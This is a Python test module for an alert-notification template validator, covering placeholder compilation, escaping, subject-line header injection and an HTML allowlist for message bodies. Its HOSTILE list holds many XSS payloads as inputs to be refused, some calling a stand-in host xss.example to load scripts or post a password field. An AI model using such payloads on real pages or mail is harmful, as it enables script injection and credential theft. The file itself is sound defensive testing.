from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alerting_assets.alerts.notification import (
    MAX_LENGTH,
    PLACEHOLDERS,
    TEST_VALUES,
    Kind,
    compile_text,
    problems,
    render,
    render_test_template,
    validate_template_syntax,
)
from alerting_assets.alerts.notification_html import ATTRIBUTES, TAGS
from alerting_assets_tests.profile import examples

pytestmark = pytest.mark.unit

STATIC = {
    "ALERT_ID": "COST-001",
    "ALERT_NAME": "Spend",
    "SEVERITY": "CRITICAL",
    "THRESHOLD_VALUE": "10 to 20",
    "OPERATOR": "BETWEEN",
}
NAMES = st.sampled_from(sorted(PLACEHOLDERS))
FIELDS = st.sampled_from(["custom_subject_template", "custom_body_template"])
NO_BRACES = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="{}"))


def body_problems(text: str) -> list[str]:
    return problems(text, field="custom_body_template")


def subject_problems(text: str) -> list[str]:
    return problems(text, field="custom_subject_template")


# --- what placeholders become ---


def test_static_names_are_written_and_native_names_stay() -> None:
    text = "{{SEVERITY}} {{ALERT_NAME}} ({{ALERT_ID}}): {{QUERY_RESULT_VALUE}} {{OPERATOR}} {{THRESHOLD_VALUE}}, {{ALERT_URL}}"
    assert compile_text(text, STATIC) == (
        "CRITICAL Spend (COST-001): {{QUERY_RESULT_VALUE}} BETWEEN 10 to 20, {{ALERT_URL}}"
    )


def test_the_time_becomes_words_because_databricks_has_none() -> None:
    assert compile_text("Since {{TIMESTAMP}}.", STATIC) == "Since the time of this message."


def test_condition_and_threshold_stay_native_unless_the_condition_is_compiled_into_the_sql() -> None:
    text = "{{ALERT_CONDITION}} / {{ALERT_THRESHOLD}}"
    assert compile_text(text, STATIC) == text
    assert compile_text(text, STATIC, condition="is between 10 and 20") == "is between 10 and 20 / 10 to 20"
    assert compile_text(text, STATIC, condition="") == " / 10 to 20"


def test_an_alert_named_like_a_tag_harms_no_body() -> None:
    static = {**STATIC, "ALERT_NAME": "<b>\"x\" & 'y'"}
    assert compile_text("{{ALERT_NAME}}", static, html=True) == "&lt;b&gt;&quot;x&quot; &amp; &#x27;y&#x27;"
    assert compile_text("{{ALERT_NAME}}", static) == "<b>\"x\" & 'y'"
    assert compile_text("{{ALERT_CONDITION}}", STATIC, condition="< 5", html=True) == "&lt; 5"


@pytest.mark.parametrize("html", [False, True])
def test_a_value_is_never_a_placeholder(html: bool) -> None:
    static = {**STATIC, "ALERT_NAME": "{{ALERT_URL}}", "ALERT_ID": "{{SEVERITY}}"}
    assert compile_text("{{ALERT_NAME}} {{ALERT_ID}}", static, html=html) == "{ {ALERT_URL} } { {SEVERITY} }"


def test_a_value_makes_no_placeholder_with_the_text_around_it() -> None:
    static = {**STATIC, "ALERT_NAME": "}a{", "ALERT_ID": ""}
    assert compile_text("{{ALERT_NAME}}{x}", static) == "}a{ {x}"
    assert compile_text("{{ALERT_NAME}}{{ALERT_ID}}{x}", static) == "}a{ {x}"
    assert compile_text("{{ALERT_URL}}{{ALERT_NAME}}{{ALERT_URL}}", static) == "{{ALERT_URL}} }a{ {{ALERT_URL}}"


def test_a_value_adds_no_line_to_a_subject() -> None:
    assert compile_text("{{ALERT_NAME}}", {**STATIC, "ALERT_NAME": "a\r\nBcc: b\u2028c"}) == "a Bcc: b c"


def test_what_is_no_placeholder_stays_as_it_is() -> None:
    text = "{{{ALERT_NAME}}} {{alert_name}} {{ALERT_NAM}} {{#ALERT_NAME}}"
    assert compile_text(text, STATIC, condition="x") == text
    assert render(text, TEST_VALUES) == text


@given(NO_BRACES)
def test_text_without_braces_has_no_placeholders_and_stays_as_it_is(text: str) -> None:
    assert validate_template_syntax(text) == (True, None)
    assert compile_text(text, {}) == text
    assert compile_text(text, {}, condition="x", html=True) == text
    assert render(text, TEST_VALUES) == text


PIECES = st.lists(
    st.one_of(
        NAMES.map(lambda name: f"{{{{{name}}}}}"),
        st.sampled_from(["{", "}", "{{", "}}", "{x}", "<", "<b>", "</b>", " ", "\n", "ALERT_NAME", "a<b"]),
        NO_BRACES,
    )
).map("".join)


@given(
    PIECES,
    FIELDS,
    st.dictionaries(st.sampled_from(sorted(STATIC)), st.text(), max_size=5),
    st.none() | st.text(),
    st.booleans(),
)
@examples(150, 2_000)
def test_a_text_without_problems_compiles_and_renders_completely(
    text: str, field: Any, values: dict[str, str], condition: str | None, html: bool
) -> None:
    if problems(text, field=field):
        return
    compiled = compile_text(text, {**STATIC, **values}, condition=condition, html=html)
    assert "{{" not in render(compiled, TEST_VALUES)
    assert "{{" not in render_test_template(text)


@given(st.lists(NAMES), st.text(), st.text(alphabet="{}<&AL_", max_size=8))
def test_only_databricks_own_placeholders_are_left(names: list[str], value: str, hostile: str) -> None:
    static = dict.fromkeys(STATIC, hostile) | {"ALERT_NAME": value}
    compiled = compile_text("".join(f"{{{{{name}}}}}" for name in names), static, condition=hostile)
    rendered = render(compiled, dict.fromkeys(PLACEHOLDERS, ""))
    assert "{{" not in rendered
    assert "}}" not in rendered


def test_render_leaves_a_name_without_a_value_and_empties_one_with_an_empty_value() -> None:
    text = "{{QUERY_RESULT_VALUE}}|{{ALERT_STATUS}}|{{ALERT_URL}}"
    assert render(text, {"QUERY_RESULT_VALUE": "5", "ALERT_STATUS": ""}) == "5||{{ALERT_URL}}"


def test_render_puts_values_in_once() -> None:
    values = {"ALERT_STATUS": "{{ALERT_URL}}", "ALERT_URL": "\\1 x"}
    assert render("{{ALERT_STATUS}} {{ALERT_URL}}", values) == "{{ALERT_URL}} \\1 x"


def test_every_placeholder_says_what_it_is() -> None:
    assert set(TEST_VALUES) == set(PLACEHOLDERS)
    assert len(PLACEHOLDERS) == 13
    for name, placeholder in PLACEHOLDERS.items():
        assert placeholder.description
        assert placeholder.test_value
        assert (placeholder.kind is Kind.WORDS) == bool(placeholder.words)
        assert (placeholder.kind is Kind.STATIC) == (name in STATIC)


# --- the functions for callers in Python ---


def test_the_functions_for_callers_in_python() -> None:
    valid = "[{{SEVERITY}}] {{ALERT_NAME}} triggered at {{TIMESTAMP}}"
    assert validate_template_syntax(valid) == (True, None)
    is_valid, error = validate_template_syntax("[{{UNKNOWN_FIELD}}] Alert")
    assert not is_valid
    assert error is not None
    assert error.startswith("Invalid placeholder: {{UNKNOWN_FIELD}}")
    assert "the nearest is {{" in error
    assert render_test_template(valid) == "[WARNING] Test Alert triggered at 2025-12-30 12:00:00"
    assert render_test_template("{{ALERT_ID}} {{QUERY_RESULT_VALUE}} {{THRESHOLD_VALUE}} {{OPERATOR}}") == (
        "TEST-001 42.5 40.0 GREATER_THAN"
    )


# --- placeholders that are wrong ---


@pytest.mark.parametrize(
    ("text", "shown", "nearest"),
    [
        ("{{ALERT_NAM}}", "{{ALERT_NAM}}", "ALERT_NAME"),
        ("{{severity}}", "{{severity}}", "SEVERITY"),
        ("{{ ALERT_NAME }}", "{{ ALERT_NAME }}", "ALERT_NAME"),
        ("{{alert-name}}", "{{alert-name}}", "ALERT_NAME"),
        ("{{ALERT NAME}}", "{{ALERT NAME}}", "ALERT_NAME"),
        ("{{ALERT_NAME", "{{ALERT_NAME; its }} is missing", "ALERT_NAME"),
        ("{{ALERT_NAME and more\ntext", "{{ALERT_NAME; its }} is missing", "ALERT_NAME"),
        ("{ALERT_NAME}}", "{ALERT_NAME}}; two braces stand on each side", "ALERT_NAME"),
        ("{{ALERT_NAME}", "{{ALERT_NAME}; two braces stand on each side", "ALERT_NAME"),
        ("{ALERT_URL}", "{ALERT_URL}; two braces stand on each side", "ALERT_URL"),
        ("{{{ALERT_NAME}}}", "{{{ALERT_NAME}}}; it has too many braces", "ALERT_NAME"),
        ("{{ALERT_NAME}}}", "{{ALERT_NAME}}}; it has too many braces", "ALERT_NAME"),
        ("{{#QUERY_RESULT_ROWS}}", "Mustache sections", "QUERY_RESULT_ROWS"),
        ("{{^ALERT_URL}}", "Mustache sections", "ALERT_URL"),
        ("{{/QUERY_RESULT_ROWS}}", "Mustache sections", "QUERY_RESULT_ROWS"),
        ("{{#X}}", "{{#X}}; Mustache sections", ""),
        ("{{! ALERT_NAME}}", "Mustache comments", "ALERT_NAME"),
        ("{{> SEVERITY}}", "Mustache partials", "SEVERITY"),
        ("{{&ALERT_NAME}}", "unescaped values", "ALERT_NAME"),
        ("{{=<% %>=}}", "Mustache delimiters", "ALERT_NAME"),
        ("{{}}", "{{}}", "ALERT_NAME"),
        ("{{.}}", "{{.}}", "ALERT_NAME"),
        ("{{", "{{", "ALERT_NAME"),
        ("ALERT_NAME}}", "}}", "ALERT_NAME"),
        ("{{ALERT_\nNAME}}", "{{ALERT_ NAME}}", "ALERT_NAME"),
    ],
)
def test_a_wrong_placeholder_is_shown_with_the_right_one(text: str, shown: str, nearest: str) -> None:
    [problem] = problems(text, field="custom_body_template")
    assert "Invalid placeholder: " in problem
    assert shown in problem
    assert f"{{{{{nearest}" in problem
    assert "\n" not in problem
    assert validate_template_syntax(text)[0] is False


@given(st.text(alphabet="{}AB_ #\n", max_size=30))
def test_what_is_wrong_with_braces_is_always_said(text: str) -> None:
    """The only double braces that may stand in a text are those of known placeholders; none of these is one."""
    assert validate_template_syntax(text)[0] is ("{{" not in text and "}}" not in text)


@pytest.mark.parametrize("text", ["{", "}", "{}", '{"a": 1}', "a } b { c", "{ {ALERT_NAM} }", "${catalog}", "{x}{y}"])
def test_single_braces_are_text(text: str) -> None:
    assert subject_problems(text) == []


def test_problems_come_in_order_with_line_and_column() -> None:
    found = body_problems("<p>Fine</p>\n  {{ALERT_NAM}} <img>\n{{severity}}\x00")
    assert [problem.split(": ")[0] for problem in found] == [
        "line 2, column 3",
        "line 2, column 17",
        "line 3, column 1",
        "line 3, column 13",
    ]
    assert "ALERT_NAM}}" in found[0]
    assert "<img>" in found[1]
    assert "U+0000" in found[3]


def test_a_text_of_one_line_needs_no_position() -> None:
    assert subject_problems("x {{ALERT_NAM}}") == [
        "Invalid placeholder: {{ALERT_NAM}}; did you mean {{ALERT_NAME}}?",
    ]


# --- what else is wrong ---


@pytest.mark.parametrize("text", ["", " ", "\n\t "])
@pytest.mark.parametrize("field", ["custom_subject_template", "custom_body_template"])
def test_an_empty_text_is_a_problem(text: str, field: Any) -> None:
    [problem] = problems(text, field=field)
    assert "empty" in problem


@pytest.mark.parametrize("field", ["custom_subject_template", "custom_body_template"])
def test_a_text_has_a_greatest_length(field: Any) -> None:
    limit = MAX_LENGTH[field]
    assert problems("x" * limit, field=field) == []
    [problem] = problems("x" * (limit + 1), field=field)
    assert f"{limit + 1:,}" in problem
    assert f"{limit:,}" in problem


@pytest.mark.parametrize("text", ["a\nb", "a\n", "a\r\nBcc: x", "a\rb"])
def test_a_subject_has_one_line(text: str) -> None:
    [problem] = subject_problems(text)
    assert "one line" in problem
    assert body_problems(text) == []


@pytest.mark.parametrize("text", ["a\x00b", "a\x1bb", "a\u2028b", "a\x85b", "a\ud800b", "a\x0bb"])
def test_control_characters_are_refused(text: str) -> None:
    assert "not allowed" in subject_problems(text)[0]
    assert "not allowed" in body_problems(text)[0]


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "a < b", "<img src=x>", "<b>"])
def test_a_tag_in_a_subject_is_text(text: str) -> None:
    assert subject_problems(text) == []


# --- HTML of bodies ---

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/x.js></SCRIPT>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script",
    "x<script src",
    "</script>",
    "<scr{{ALERT_ID}}ipt>alert(1)</script>",
    "<{{ALERT_NAME}}>",
    "</{{ALERT_NAME}}>",
    "<b {{ALERT_NAME}}>x</b>",
    "<b{{ALERT_NAME}}>x</b>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img/src/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=data:image/svg+xml;base64,AAAA>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=http://xss.example/x.css>",
    "<style>@import'http://xss.example/x.css';</style>",
    "<form action=http://xss.example><input name=password></form>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<textarea><b></textarea>",
    "<title><b></title>",
    "<template><b></template>",
    "<plaintext>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    '<b onmouseover="alert(1)">x</b>',
    "<b ONCLICK='alert(1)'>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<body onload=alert(1)>",
    '<body background="javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed">x</div>',
    '<span class="x">y</span>',
    '<table background="http://xss.example/x.png"></table>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//xss.example">x</a>',
    '<a href="{{ALERT_NAME}}">x</a>',
    '<a href="{{QUERY_RESULT_VALUE}}">x</a>',
    '<a href="https://x.example/?v={{QUERY_RESULT_VALUE}}">x</a>',
    '<a href="{{ALERT_NAME}}{{ALERT_URL}}">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=https://x.example/{{ALERT_NAME}}>x</a>",
    '<a href="https://x.example" href="javascript:alert(1)">x</a>',
    '<a href="https://x.example"onclick="alert(1)">x</a>',
    '<a href="https://x.example" target="_blank">x</a>',
    '<a href="https://x.example" ping="https://xss.example">x</a>',
    '<a href="https://x.example">x',
    '<a href="https://x.example',
    "<a href='https://x.example\" onclick='alert(1)'>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<a href>x</a>",
    "<!-- <b>hidden</b> -->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- never closed",
    "<!DOCTYPE html><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![x[",
    "<?php echo 1 ?>",
    "<?xml version='1.0'?>",
    "</div>",
    "</td></tr></table>",
    "</ b>",
    "</b onclick=alert(1)>",
    "<b>x</b onclick='alert(1)'>",
    "<abbr title='<script>alert(1)</script>'>x</abbr>",
    '<abbr title="a > b">x</abbr>',
    '<a href="&#104;ttps://x.example">x</a>',
    "<b>never closed",
    "<b/>never closed",
    "<div><b>x</div>",
    "a<b and c>d",
    "a<b {{ALERT_NAME}}",
    "a<b onclick=alert(1)",
    "<b",
    "<p",
    "text <",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_is_refused(text: str) -> None:
    assert body_problems(text)


GOOD = [
    "cost < 5",
    "a<b",
    "a<b and c<d",
    "x<total per day",
    "5 > 3 and 3 < 5",
    "<3",
    "a <= b, a <> b, a << b",
    "1<2>0",
    "-> <- =>",
    "AT&T &amp; co &lt;script&gt;",
    "Value {{QUERY_RESULT_VALUE}} is over {{THRESHOLD_VALUE}}.",
    "Value < {{THRESHOLD_VALUE}}",
    "<p>Spend: <b>{{QUERY_RESULT_VALUE}}</b></p>",
    "<P>Spend: <B>{{QUERY_RESULT_VALUE}}</B></P>",
    "line one<br>line two<br/>line three<br />",
    "<hr>",
    '<a href="{{ALERT_URL}}">Open</a>',
    "<a href='{{ALERT_URL}}?x=1'>Open</a>",
    '<a href="https://wiki.example.com/runbook?a=1&amp;b=2#top" title="Runbook">Runbook</a>',
    '<a\n  href = "https://wiki.example.com/{{ALERT_ID}}"\n>Runbook</a >',
    '<a href="HTTP://wiki.example.com">x</a>',
    '<a href="mailto:oncall@example.com?subject={{ALERT_ID}}">Mail</a>',
    '<abbr title="Service level objective">SLO</abbr> <acronym title="{{ALERT_NAME}}">x</acronym>',
    "<ul><li>one<li>two</ul>",
    "<ol><li>one</li><li>two</li></ol>",
    "<table><tbody><tr><th>Id</th><td>{{ALERT_ID}}</td></tr></tbody></table>",
    "<table><tr><td>a<td>b<tr><td>c</table>",
    "<html><head></head><body><h1>{{ALERT_NAME}}</h1></body></html>",
    "<h2>x</h2><h3>x</h3><h4>x</h4><h5>x</h5><h6>x</h6>",
    "<div><span><strong><em><i><code>x</code></i></em></strong></span></div>",
    "<blockquote>{{ALERT_CONDITION}} {{ALERT_THRESHOLD}}</blockquote>",
    "<p>one<p>two",
    "javascript: is a word, onclick= too",
    "{ not a placeholder } 🔥 Ausgaben über 5 €",
    "A first line\n\n* and a list\n* in plain text\n",
]


@pytest.mark.parametrize("text", GOOD)
def test_good_bodies_are_accepted(text: str) -> None:
    assert body_problems(text) == []


class Seen(HTMLParser):
    """What another parser than ours makes of a body."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    @classmethod
    def of(cls, text: str) -> list[str]:
        seen = cls()
        seen.feed(text)
        seen.close()
        return seen.wrong

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for key, value in attrs:
            if key not in ATTRIBUTES.get(tag, ()):
                self.wrong.append(f"{tag} {key}")
            if key == "href" and not (value or "").lower().startswith(
                ("https://", "http://", "mailto:", "{{alert_url}}")
            ):
                self.wrong.append(f"{key}={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)


MARKUP = st.lists(
    st.one_of(
        st.sampled_from(["<", ">", "</", "/>", "<b", "<a", "href", "title", "=", '"', "'", "/", "!--", "-->", "?"]),
        st.sampled_from(["<script>", "onclick", "javascript:"]),
        st.sampled_from(
            [
                "<b>",
                "</b>",
                "<br>",
                "<p>",
                "</a>",
                "</abbr>",
                "5",
                "x",
                " ",
                "\n",
                "&#106;",
                "https://x",
                "{{ALERT_URL}}",
            ]
        ),
        st.sampled_from(
            ['<a href="', "<a href='https://x", "<abbr title='", '">', "'>", "<a title='{{ALERT_NAME}}'>", "<b>x</b>"]
        ),
        st.sampled_from(
            ['<a href="https://x/{{ALERT_NAME}}">', "<abbr title='{{ALERT_NAME}}'>x</abbr>", "a<b", "{{ALERT_NAME}}"]
        ),
    ),
    max_size=10,
).map("".join)
NAMED = st.sampled_from(["script", "x onclick=alert(1)", "'\"><script>", "{{ALERT_URL}}", "javascript:x", "", "-->"])


@given(MARKUP, NAMED)
@examples(300, 5_000)
def test_an_accepted_body_holds_only_what_is_allowed_whatever_the_alert_is_called(text: str, name: str) -> None:
    if body_problems(text):
        return
    compiled = compile_text(text, {**STATIC, "ALERT_NAME": name}, html=True)
    assert Seen.of(compiled) == []
    if "<" not in text.rpartition(">")[2]:  # no `a<b` at the end, which would swallow the next tag
        assert Seen.of(compiled + "<p>the product's own words</p>") == []


@given(st.text(alphabet="<>/!?ab='\" {}-[", max_size=400))
def test_any_body_is_judged(text: str) -> None:
    assert isinstance(body_problems(text), list)
